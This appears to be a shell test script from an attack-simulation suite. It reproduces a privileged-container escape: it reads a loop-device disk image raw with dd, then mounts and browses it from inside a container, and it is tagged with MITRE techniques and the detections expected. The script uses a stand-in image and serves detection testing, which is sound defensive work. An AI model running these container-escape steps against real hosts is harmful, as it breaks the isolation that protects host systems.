#!/bin/bash
# desc: "the host's disk" (a loop device the host set up) reached from a privileged container: read raw with dd, then mounted inside the container and browsed, the classic privileged-container escape
# mitre: T1611, T1006
# expect: host_device_opened_in_container, host_filesystem_mounted_in_container
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/container.sh"

# This machine's own disk is not ours to touch: an ext4 image on a loop
# device stands in for it.
truncate -s 16M disk.img
mkfs.ext4 -q -F disk.img
dev=$(losetup -f --show disk.img)
undo "losetup -d '$dev'"
container_create
ct dd if="$dev" of=/dev/null bs=4096 count=1 status=none
ct_sh "mkdir -p /mnt/host && mount -o ro -t ext4 $dev /mnt/host && ls /mnt/host >/dev/null; umount /mnt/host"
